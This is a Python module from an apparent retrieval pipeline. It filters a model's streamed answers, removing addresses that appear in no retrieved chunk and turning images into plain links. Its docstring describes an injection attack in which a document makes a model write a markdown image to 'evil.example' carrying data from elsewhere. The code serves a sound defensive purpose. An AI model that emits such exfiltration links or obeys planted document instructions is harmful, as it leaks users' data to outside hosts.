"""Link filter: only addresses of the chunks stay in answers, and no image loads on its own.

A document can make a model write ``![](https://evil.example/?q=...)`` with data from elsewhere; a page that
shows the answer would send it there. So an address that occurs in no chunk is removed, and an image of a
known one becomes a link: the choice among images could carry data too. A construct is held back until it is
complete, or removed if it gets too long; other text is never held back.
"""

import re
from collections.abc import Callable, Iterable

from vectorforge.patterns import pattern_of
from vectorforge.pipeline.guardrails.addresses import AllowedAddresses
from vectorforge.pipeline.guardrails.constructs import CONTEXT_CHARS, Constructs

_STEP = 1_000
"""Characters scanned together: the work for a construct never depends on the length of an answer."""
_OPEN_ENDS = frozenset(".:")
"""Ends of a piece of text that may have begun an address."""
_SCHEMES = "mailto sms smsto mms tel callto xmpp sip sips skype facetime whatsapp".split()  # noqa: SIM905 - as words
"""Schemes without slashes that programs recognize in texts."""
_SUSPECTS = (pattern_of(r"\.(?:[^\W\d_]|(?<=[wW]\.))"), pattern_of(r":\S"), pattern_of(r"@(?<=[\w.+%'\-]@)"))
"""Each begins with a fixed character: one pattern of all would take 2 % of a query's CPU time."""
_BEGINNING = pattern_of(r"(?:h|ht|htt|https?:?|ww?w?|www\.|/)\Z", re.IGNORECASE)
_AFTER_SCHEME = "|".join(rf"(?<=\b{scheme}:)" for scheme in _SCHEMES)
TRIGGER = pattern_of(
    r"(?P<link>(?<=\])\()|(?P<definition>(?<=\]):)|(?P<style>(?<=url)\()|(?P<angle><(?:[a-z]|\Z))"
    r"|(?P<web>(?<![a-z0-9])(?:https?://|www\.[^\W_]|(?:h|ht|htt|https?|https?:|https?:/|ww?w?|www\.)\Z))"
    r"|(?P<scheme>(?<=[a-z0-9+.\-]:)/(?:/|\Z))|(?P<relative>(?<![:/])/(?:/|\Z))|(?P<host>(?<=[\w\-]\.)[^\W\d_])"
    rf"|(?P<mail>(?<=[\w.+%'\-])@(?:[^\W_]|\Z))|(?P<call>(?:{_AFTER_SCHEME})[!-;=?-~])",
    re.IGNORECASE,
)
_SWALLOWED = pattern_of(r"[^\s)>]*")
_IMAGE_OR_BREAK = pattern_of(r"!\[|\n[ \t\r]{0,40}\n")


class LinkFilter:
    """Removes foreign links from an answer, piece by piece. The result does not depend on the cuts.

    Args:
        texts: Returns the texts whose addresses may stay; called at the first address, which most answers
            do not have.
    """

    def __init__(self, texts: Callable[[], Iterable[str]]) -> None:
        self._texts = texts
        self._constructs: Constructs | None = None
        """None until there is one: most answers have none."""
        self._written = ""
        """End of the text returned: constructs are matched as the reader sees them."""
        self._held = ""
        self._in_image = False
        """True if an image's text may be open in this paragraph."""
        self._is_whole = False
        self._swallowing = False
        self._taken = 0
        """Characters read so far, without the text held back."""

    @property
    def changes(self) -> int:
        """Count of removed addresses and of images that became links."""
        return 0 if self._constructs is None else self._constructs.changes

    def feed(self, text: str) -> str:
        """Add a piece; return the text that is certain, often all of it."""
        in_construct = self._held or self._swallowing or self._written[-1:] in _OPEN_ENDS
        if not in_construct and not _may_begin_in(text):
            self._taken += len(text)
            self._note(text)
            return text
        return "".join(self._scan(text[start : start + _STEP]) for start in range(0, len(text), _STEP))

    def finish(self) -> str:
        """Return the rest of a complete answer."""
        self._is_whole = True
        return self._scan("") if self._held else ""

    def _scan(self, text: str) -> str:
        rest, self._held = self._held + text, ""
        whole = self._taken + len(rest)
        passed: list[str] = []
        while rest:
            self._taken = whole - len(rest)
            if self._swallowing:
                rest = _SWALLOWED.sub("", rest, count=1)
                self._swallowing = not rest
                continue
            start = len(self._written)
            seen = self._written + rest
            found = TRIGGER.search(seen, start)
            if found is None:
                self._pass(rest, passed)
                rest = ""
                break
            self._pass(seen[start : found.start()], passed)
            if self._constructs is None:
                self._constructs = Constructs(AllowedAddresses(self._texts))
            step = self._constructs.resolve(
                str(found.lastgroup), seen, found.start(),
                offset=self._taken - start, is_whole=self._is_whole, in_image=self._in_image,
            )  # fmt: skip
            if step is None:
                rest = self._held = seen[found.start() :]
                break
            self._swallowing = self._constructs.swallows
            self._pass(step[0], passed)
            rest = seen[step[1] :]
        self._taken = whole - len(rest)
        return "".join(passed)

    def _pass(self, text: str, passed: list[str]) -> None:
        passed.append(text)
        self._note(text)

    def _note(self, text: str) -> None:
        if "[" in text or "\n" in text:
            for found in _IMAGE_OR_BREAK.finditer(self._written + text):
                self._in_image = found[0][0] == "!"
        self._written = (self._written + text)[-CONTEXT_CHARS:]


def _may_begin_in(text: str) -> bool:
    """Return True if a construct may begin in a piece of text or continue from the last one; fast."""
    return (
        "<" in text
        or "//" in text
        or "](" in text
        or "]:" in text
        or text[:1] in "(:/@"
        or _BEGINNING.search(text[-6:]) is not None
        or "l(" in text
        or "L(" in text
        or any(pattern.search(text) for pattern in _SUSPECTS)
    )


def without_foreign_links(text: str, texts: Callable[[], Iterable[str]]) -> str:
    """Return a complete text as ``LinkFilter`` returns it."""
    links = LinkFilter(texts)
    return links.feed(text) + links.finish()
